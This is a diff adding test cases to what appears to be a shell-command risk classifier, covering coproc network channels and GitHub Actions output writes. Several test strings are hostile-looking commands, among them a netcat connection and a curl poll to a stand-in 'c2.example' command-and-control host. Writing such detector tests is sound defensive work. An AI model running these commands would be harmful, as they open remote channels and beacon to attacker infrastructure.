@@ -87,6 +87,9 @@ describe("live network channels", () => {
     ["openssl s_client -connect example.org:443", [], ["exec"]],
     ['coproc { while read line; do echo "processed: $line"; done; }', [], ["exec", "network"]],
     ["coproc sort", [], ["exec"]],
+    ["coproc NC { nc c2.example 4444; }", ["exec", "network"], ["unclassified"]],
+    ["coproc WORKER (curl -s https://c2.example/poll)", ["exec"], []],
+    ["coproc LOCAL { sort; }", [], ["exec", "unclassified"]],
     ["echo 'nc host 4444'", [], ["exec"]],
   ];
   run(CASES);
@@ -230,6 +233,7 @@ describe("CI step outputs", () => {
     ['echo "X=1" >> $GITHUB_ENV', ["supply-chain"], []],
     ['echo "## Results" >> $GITHUB_STEP_SUMMARY', [], ["supply-chain"]],
     ["cat $GITHUB_OUTPUT", [], ["supply-chain"]],
+    ['echo "ok=true" | tee -a "$GITHUB_OUTPUT"', ["supply-chain"], []],
   ];
   run(CASES);
 });
